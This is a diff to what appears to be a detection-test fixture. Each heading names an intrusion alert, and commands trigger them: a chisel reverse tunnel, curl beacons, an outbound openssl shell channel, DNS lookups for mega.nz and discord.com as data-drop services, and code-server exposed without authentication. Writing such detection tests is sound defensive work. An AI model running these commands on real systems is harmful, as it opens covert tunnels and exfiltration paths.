@@ -1,6 +1,5 @@
 ## Tunnel started
 #also Executable run from a scratch folder
-#also Tool of attackers started
 #setup stubs /tmp/chisel
 /tmp/chisel client 203.0.113.9:8080 R:socks
 ## Port made reachable from outside by SSH
@@ -27,12 +26,10 @@ for n in $(seq 1 8); do curl -s http://203.0.113.9/; sleep 2.5; done
 for n in $(seq 1 10); do python3 -c 'import socket; socket.socket().connect_ex(("203.0.113.9", 443))'; sleep 2.3; done
 ## Place to drop data asked for
 #also Code without a file asks for a name of the internet
-#also Service for messages or texts used by code without a file
 timeout 1 python3 -c 'import socket
-q = bytes.fromhex("000101000001000000000000") + b"\x08transfer\x02sh\0\0\1\0\1"
+q = bytes.fromhex("000101000001000000000000") + b"\x04mega\x02nz\0\0\1\0\1"
 s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.sendto(q, ("10.9.8.1", 53))'
 ## Download tool started by a server
-#also Shell of a server connects out
 #also Shell started by a network server
 server 'curl -s http://10.9.8.7/x'
 ## Program in a scratch folder waits for callers
@@ -58,7 +55,6 @@ python3 -c 'import socket; socket.socket(socket.AF_INET, socket.SOCK_DGRAM).send
 #also Executable run from a scratch folder
 cp /opt/lab/sockets /tmp/x; /tmp/x socket 17 3 768
 ## Encrypted connection opened by a server's command
-#also Data passed through openssl's test client
 #also Shell of a server connects out
 #also Shell started by a network server
 server 'openssl s_client -quiet -connect 203.0.113.9:443'
@@ -102,8 +98,6 @@ python3 -c 'import socket; socket.socket(socket.AF_INET, socket.SOCK_DGRAM).send
 #setup stubs /usr/bin/code-server
 code-server --bind-addr 0.0.0.0:8090 --auth none
 ## Service for messages or texts used by code without a file
-#also Code without a file asks for a name of the internet
-#also Place to drop data asked for
 python3 -c 'import socket; socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(bytes.fromhex("000101000001000000000000") + b"\x07discord\x03com\0\0\1\0\1", ("10.9.8.1", 53))'
 ## Connections of others led on by an untrusted program
 #also Code without a file waits for callers
